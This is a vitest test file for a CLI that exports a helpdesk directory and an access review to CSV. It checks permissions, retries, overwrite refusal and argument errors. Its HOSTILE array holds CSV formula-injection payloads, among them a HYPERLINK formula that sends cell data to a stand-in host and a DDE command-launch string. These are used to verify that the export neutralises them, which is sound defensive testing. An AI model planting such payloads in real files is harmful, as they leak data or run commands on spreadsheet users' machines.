/** `sealdesk export` against a gateway that listens, as a shell runs it. */
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { parseGuardedText } from '../../src/cli/csv.ts';
import { encodeKeyFile } from '../../src/client/index.ts';
import { type SeededPerson, seedDirectory } from '../directory/directory-rig.ts';
import { NAMES, samplePeople } from '../directory/people.ts';
import { type ListeningGateway, openListeningGateway } from '../support/listening-gateway.ts';
import { createTestTenant, type TestTenant } from '../support/tenant.ts';
import { type Outcome, runHere } from './program.ts';
import { readCsv } from './read-csv.ts';

const HOSTILE = [
  '=HYPERLINK("https://collect.example/?who="&A2,"Open invoice")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+9)*cmd',
  '\t=1+1',
  '＝1+1',
  'Quote "Comma", Semicolon;=1; Ltd\r\nSecond line',
  "'=already text",
  'Zoë Ångström 💡',
];
const PEOPLE: readonly SeededPerson[] = samplePeople(160, 3).map((one, index) => ({
  ...one,
  ...(index < HOSTILE.length ? { status: 'ACTIVE', role: 'agent', roleType: null } : {}),
  name: HOSTILE[index] ?? one.name,
}));
const PRESENT = PEOPLE.filter(({ status }) => status !== 'DELETED');
const STAFF = PRESENT.filter(({ role }) => role !== 'end-user');

const folder = mkdtempSync(join(tmpdir(), 'sealdesk-export-'));
const keyFile = join(folder, 'key.json');
const resources = new AsyncDisposableStack();
let listening: ListeningGateway;
let tenant: TestTenant;
let target = '';
let out = '';

beforeAll(async () => {
  listening = resources.use(await openListeningGateway());
  tenant = await createTestTenant(listening.gateway, { allowedOperations: ['sync_directory'] });
  writeFileSync(keyFile, encodeKeyFile({ ...tenant.keyFile, gateway: listening.url }), { mode: 0o600 });
  await seedDirectory({ gateway: listening.gateway }, tenant, PEOPLE, NAMES);
}, 60_000);
afterAll(async () => {
  await resources.disposeAsync();
  rmSync(folder, { recursive: true, force: true });
});
beforeEach(() => {
  target = mkdtempSync(join(folder, 'out-'));
  out = join(target, 'people.csv');
  listening.sent.length = 0;
});
afterEach(() => vi.unstubAllGlobals());

function run(what: 'directory' | 'review', options: readonly string[] = []): Promise<Outcome> {
  return runHere([
    ...['export', what, tenant.integrationId, '--key', keyFile, '--out', out],
    ...['--api-key', tenant.keys.admin, ...options],
  ]);
}

/** The rows of the file by the names of its columns, its texts as they were. */
function readRows(): readonly Readonly<Record<string, string>>[] {
  const [header = [], ...rows] = readCsv(readFileSync(out, 'utf8'));
  return rows.map((cells) =>
    Object.fromEntries(header.map((name, index) => [name, parseGuardedText(cells[index] ?? '')])),
  );
}

/** Has `act` do something before the request of that number, from 1, is sent. */
function beforeRequest(number: number, act: () => unknown): void {
  const { fetch: real } = globalThis;
  let sent = 0;
  vi.stubGlobal('fetch', async (input: URL, init: RequestInit) => {
    sent += 1;
    if (sent === number) await act();
    return real(input, init);
  });
}

describe('sealdesk export directory', () => {
  it('writes everybody, opened here, into a file for its owner alone', async () => {
    const { code, stdout, stderr } = await run('directory');
    expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
    expect(stdout).toBe(`${out}: ${PRESENT.length} people.\n`);
    expect(statSync(out).mode & 0o777).toBe(0o600);
    expect(readRows().map(({ zendesk_id, name, email }) => ({ zendesk_id, name, email }))).toEqual(
      PRESENT.map(({ zendeskId, name, email }) => ({
        zendesk_id: String(zendeskId),
        name,
        email: email ?? '',
      })),
    );
    const first = readRows()[0];
    const person = PRESENT[0];
    expect(first).toMatchObject({
      role: 'AGENT',
      status: 'ACTIVE',
      seat: 'true',
      last_seen_at: person?.lastSeenAt?.toISOString() ?? '',
      groups: person?.groupIds
        .toSorted()
        .map((id) => NAMES.groups.get(id) ?? id)
        .join('; '),
    });
    expect(listening.sent.length).toBeGreaterThan(1);
    for (const body of listening.sent) expect(body).not.toContain('Person');
    expect(readdirSync(target)).toEqual(['people.csv']);
  });

  it('holds no cell that a spreadsheet would run', async () => {
    await run('directory');
    const cells = readCsv(readFileSync(out, 'utf8')).flat();
    expect(cells.filter((cell) => /^[\p{Z}\p{C}]*[=+\-@]/u.test(cell.normalize('NFKC')))).toEqual([]);
    expect(cells).toContain("'-2+3");
  });

  it('leaves a file that is there alone before it asks for anything, and replaces it when told to', async () => {
    writeFileSync(out, 'kept');
    const refused = await run('directory');
    expect(refused).toMatchObject({
      code: 1,
      stdout: '',
      stderr: expect.stringMatching(/exists already.*--force/),
    });
    expect(readFileSync(out, 'utf8')).toBe('kept');
    expect(listening.sent).toEqual([]);
    expect((await run('directory', ['--force'])).code).toBe(0);
    expect(readRows()).toHaveLength(PRESENT.length);
    expect(statSync(out).mode & 0o777).toBe(0o600);
  });

  it('asks again for the page at which the gateway fell silent', async () => {
    beforeRequest(2, () => {
      throw new TypeError('fetch failed', { cause: Object.assign(new Error(), { code: 'ECONNRESET' }) });
    });
    const { code, stderr } = await run('directory');
    expect(code).toBe(0);
    expect(stderr).toMatch(/cannot be reached \(ECONNRESET\)\. Trying again in 1 s\.\n$/);
    expect(readRows()).toHaveLength(PRESENT.length);
  });

  it('leaves nothing behind where it is refused half-way, and says why', async () => {
    const allow = (names: readonly string[]) =>
      listening.gateway.graphql(
        'mutation($id: ID!, $names: [String!]!) { updateIntegration(input: { id: $id, allowedOperations: $names }) { integration { id } } }',
        { apiKey: tenant.keys.admin, variables: { id: tenant.integrationId, names } },
      );
    beforeRequest(2, () => allow([]));
    const { code, stdout, stderr } = await run('directory');
    expect({ code, stdout }).toEqual({ code: 1, stdout: '' });
    expect(stderr).toMatch(/^sealdesk: .*sync_directory.*\(OPERATION_NOT_ALLOWED\)\n$/);
    expect(readdirSync(target)).toEqual([]);
    await allow(['sync_directory']);
  });

  it('says at once where nobody answers, and sends nothing over clear http to another machine', async () => {
    expect(await run('directory', ['--url', 'http://127.0.0.1:1'])).toMatchObject({
      code: 1,
      stdout: '',
      stderr: expect.stringMatching(/^sealdesk: The gateway at http:\/\/127\.0\.0\.1:1 cannot be reached/),
    });
    // RFC 6761 §6.4: a name that never resolves.
    expect(await run('directory', ['--url', 'http://gateway.invalid'])).toMatchObject({
      code: 1,
      stdout: '',
      stderr: expect.stringMatching(
        /^sealdesk: Nothing was sent: http:\/\/gateway\.invalid .*--insecure-http/,
      ),
    });
    expect(readdirSync(target)).toEqual([]);
  });

  it('says what is missing', async () => {
    for (const [left, missing] of [
      ['--key', '--key FILE is missing'],
      ['--out', '--out FILE is missing'],
    ] as const) {
      const options = ['--key', keyFile, '--out', out].filter(
        (_, index, all) => all[index] !== left && all[index - 1] !== left,
      );
      const { code, stderr } = await runHere(['export', 'directory', tenant.integrationId, ...options]);
      expect(code).toBe(2);
      expect(stderr).toContain(missing);
    }
    expect(await runHere(['export', 'directory'])).toMatchObject({
      code: 2,
      stderr: expect.stringContaining('INTEGRATION is missing'),
    });
  });
});

describe('sealdesk export review', () => {
  it('writes a line for each of the staff, with what to look at first, and prints the numbers', async () => {
    const { code, stdout, stderr } = await run('review', ['--dormant-after', '30']);
    expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
    const rows = readRows();
    expect(rows.map(({ zendesk_id }) => zendesk_id)).toEqual(STAFF.map(({ zendeskId }) => String(zendeskId)));
    expect(stdout).toContain(`${out}: ${STAFF.length} people with access.\n`);
    for (const finding of [
      'DORMANT',
      'NO_TWO_FACTOR',
      'TWO_FACTOR_UNKNOWN',
      'SUSPENDED_WITH_SEAT',
      'NO_GROUP',
    ]) {
      const found = rows.filter(({ findings }) => findings?.split('; ').includes(finding)).length;
      expect(found).toBeGreaterThan(0);
      expect(stdout).toMatch(new RegExp(`^  ${finding} +${found}$`, 'm'));
    }
    const admins = STAFF.filter(({ role }) => role === 'admin').length;
    expect(stdout).toMatch(new RegExp(`^  ADMINS +${admins}$`, 'm'));
  });

  it('takes days for the dormant that are none for none', async () => {
    for (const days of ['0', '-1', 'x', '10000', '1.5']) {
      const { code, stderr } = await run('review', [`--dormant-after=${days}`]);
      expect([days, code]).toEqual([days, 2]);
      expect(stderr).toContain('--dormant-after takes days from 1 to 9999');
    }
    expect(readdirSync(target)).toEqual([]);
  });
});

describe('sealdesk export of many', () => {
  it('says on standard error how far it is', async () => {
    const many = samplePeople(1_500, 9);
    await seedDirectory({ gateway: listening.gateway }, tenant, many, NAMES);
    const present = many.filter(({ status }) => status !== 'DELETED').length;
    expect(present).toBeGreaterThan(1_000);
    const { code, stderr } = await run('directory');
    expect({ code, stderr }).toEqual({ code: 0, stderr: `sealdesk: 1000 of ${present} people\n` });
    expect(readRows()).toHaveLength(present);
  });
});
